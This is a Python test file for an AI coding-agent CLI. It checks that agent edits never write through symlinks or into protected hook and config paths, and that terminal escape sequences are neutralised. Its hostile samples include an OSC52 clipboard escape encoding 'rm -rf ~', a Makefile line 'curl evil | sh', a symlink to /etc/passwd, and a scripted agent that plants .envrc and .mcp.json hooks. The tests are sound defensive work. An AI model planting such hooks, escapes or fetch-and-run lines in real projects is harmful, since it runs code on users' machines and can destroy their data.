"""Applying an agent's changes is a reviewed change, and untrusted text never drives the terminal.

The apply step is driven directly on a scratch copy (as it looks when a protected file or
a symlink trick got into it) and end to end through ``opensage run`` with the scripted
model; the terminal checks look for raw control sequences in what the CLI prints.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys

import pytest
from click.testing import CliRunner

from opensage.chat import run_chat
from opensage.cli import cli
from opensage.host import Host
from opensage.plugins.agents.topology import ScratchCopy
from scripted_agents import Brain, call

OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
ANALYSIS = {"complexity": "low", "task_type": "implement", "steps": [], "alternatives": [],
            "verifier": None, "reasoning": "one change"}


def _copy(project, tmp_path):
    return ScratchCopy.create(project, tmp_path / "scratch")


def test_apply_never_writes_through_a_symlink_or_to_a_protected_path(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("outside, untouched\n")
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "a.py").write_text("a = 1\n")
    (proj / "shared").symlink_to("../outside")
    (proj / "link.txt").symlink_to("../outside/target.txt")
    scratch = _copy(proj, tmp_path)
    s = scratch.path
    # the agent replaced the project's symlinks by real files/folders in its copy ...
    (s / "shared").unlink()
    (s / "shared").mkdir()
    (s / "shared" / "x.txt").write_text("through the symlink\n")
    (s / "link.txt").unlink()
    (s / "link.txt").write_text("overwrite the target\n")
    # ... and wrote files the host would run
    for rel in (".mcp.json", "opencode.json", ".envrc", ".vscode/tasks.json", "sub/.envrc", "package.json"):
        (s / rel).parent.mkdir(parents=True, exist_ok=True)
        (s / rel).write_text('{"mcpServers": {"x": {"command": "sh"}}}\n')
    (s / "a.py").write_text("a = 2\n")
    (s / "evil").symlink_to("/etc/passwd")  # a symlink in the copy is never applied
    applied, conflicts = scratch.apply()
    assert applied == ["a.py"] and conflicts == []
    assert (proj / "a.py").read_text() == "a = 2\n"
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]
    assert (outside / "target.txt").read_text() == "outside, untouched\n"
    for rel in (".mcp.json", "opencode.json", ".envrc", ".vscode", "sub", "package.json", "evil"):
        assert not os.path.lexists(proj / rel), rel
    reasons = dict(scratch.refused)
    assert "symlink" in reasons["shared/x.txt"] and "symlink" in reasons["link.txt"]
    assert reasons[".mcp.json"].startswith("protected path (.mcp.json)")
    assert "protected path (.envrc)" in reasons["sub/.envrc"] and str(s / ".mcp.json") in reasons[".mcp.json"]
    scratch.remove()
    assert s.exists()  # refused files stay where the message says they are


def test_user_extra_protected_path_is_refused_at_apply(tmp_path, monkeypatch):
    user = tmp_path / "config.yaml"
    user.write_text("sandbox:\n  protected_paths: [Makefile]\n")
    monkeypatch.setenv("OPENSAGE_CONFIG", str(user))
    proj = tmp_path / "proj"
    proj.mkdir()
    scratch = _copy(proj, tmp_path)
    (scratch.path / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    assert scratch.apply() == ([], [])
    assert not (proj / "Makefile").exists() and scratch.refused[0][0] == "Makefile"


def writer(task, results):
    step = len(results)
    if step == 0:
        return call("write", path="calc.py", content="def f():\n    return 2\n")
    if step == 1:
        return call("write", path=".mcp.json", content='{"mcpServers": {}}')
    if step == 2:
        return call("shell", command="echo '{}' > opencode.json; echo hook > .envrc; ls -a")
    return f"Changed calc.py. {OSC52}\x1b]0;pwned-title\x07\x1b[2J done"


@pytest.fixture
def repo(project):
    (project / "calc.py").write_text("def f():\n    return 1\n")
    return project


def invoke(project, *args, input=None):
    return CliRunner().invoke(cli, ["--workspace", str(project), "run", *args], input=input,
                              catch_exceptions=False)


def test_run_shows_the_changes_and_never_creates_protected_files(repo, scripted):
    scripted.default = Brain(writer, name_for=lambda t: "writer", analysis=ANALYSIS)
    result = invoke(repo, "--show-diff", "change f")
    assert result.exit_code == 0, result.output
    assert (repo / "calc.py").read_text() == "def f():\n    return 2\n"
    for name in (".mcp.json", "opencode.json", ".envrc"):
        assert not (repo / name).exists(), name
    err = result.stderr
    assert "changes in" in err and "calc.py" in err and "-    return 1" in err and "+    return 2" in err
    replies = [m["content"] for r in scripted.requests if r["tools"] for m in r["messages"] if m["role"] == "tool"]
    assert any("is protected (.mcp.json) and read-only" in r for r in replies)  # the write tool refused at once
    # no control sequence of the agent's answer reached the terminal raw
    for stream in (result.stdout, result.stderr):
        assert "\x1b]52" not in stream and "\x1b]0;" not in stream and "\x1b[2J" not in stream
    assert "\\x1b]52;c;" in result.stdout


def test_no_apply_keeps_the_copy_and_prints_its_path(repo, scripted):
    scripted.default = Brain(writer, name_for=lambda t: "writer", analysis=ANALYSIS)
    result = invoke(repo, "--no-apply", "change f")
    assert result.exit_code == 0, result.output
    assert (repo / "calc.py").read_text() == "def f():\n    return 1\n"
    line = next(ln for ln in result.stderr.splitlines() if "kept at" in ln)
    kept = line.split("kept at", 1)[1].strip()
    assert open(os.path.join(kept, "calc.py")).read() == "def f():\n    return 2\n"


@pytest.mark.parametrize("answer,applied", [("y\n", True), ("n\n", False), ("", False)])
def test_review_asks_before_applying(repo, scripted, answer, applied):
    scripted.default = Brain(writer, name_for=lambda t: "writer", analysis=ANALYSIS)
    result = invoke(repo, "--review", "change f", input=answer)
    assert result.exit_code == 0, result.output
    assert "Apply these changes to the project?" in result.stderr
    assert ((repo / "calc.py").read_text() == "def f():\n    return 2\n") is applied


def test_review_and_no_apply_exclude_each_other(repo):
    result = invoke(repo, "--review", "--no-apply", "x")
    assert result.exit_code == 2 and "exclude each other" in result.stderr


def test_osc52_in_memory_content_never_reaches_stdout_raw(project):
    add = subprocess.run([sys.executable, "-m", "opensage", "-w", str(project), "@memory-add-node", "type=concept",
                          "label=clip", f"content=copy {OSC52} \x1b[8mhidden"],
                         capture_output=True, text=True, timeout=60)
    assert add.returncode == 0, add.stderr
    out = subprocess.run([sys.executable, "-m", "opensage", "-w", str(project), "@memory-query", "query=clip"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\\x1b]52;c;" in out.stdout
    data = subprocess.run([sys.executable, "-m", "opensage", "-w", str(project), "--json", "@memory-query",
                           "query=clip"], capture_output=True, text=True, timeout=60)
    assert "\x1b" not in data.stdout and OSC52 in json.loads(data.stdout)[0]["excerpt"]  # exact, JSON-escaped


def test_osc52_never_reaches_the_repl_raw(workspace):
    host = Host(workspace)
    stdin = io.StringIO(f'@memory-add-node type=concept label=clip content="{OSC52}"\n@memory-query query=clip\nexit\n')
    stdout = io.StringIO()
    run_chat(host, stdin=stdin, stdout=stdout)
    assert "\x1b" not in stdout.getvalue() and "\\x1b]52" in stdout.getvalue()


def test_declined_step_ends_a_vertical_chain(repo, scripted):
    brain = Brain(writer, name_for=lambda t: "writer", analysis=ANALYSIS, subtasks=[["change f", "then more"]])
    scripted.default = brain
    result = invoke(repo, "--no-apply", "--topology", "vertical", "change f")
    assert result.exit_code == 1, result.output
    assert "the changes of step 1 were not applied" in result.stdout
    assert (repo / "calc.py").read_text() == "def f():\n    return 1\n"
    assert brain.agent_tasks and len(brain.agent_tasks) == 1  # step 2 never started
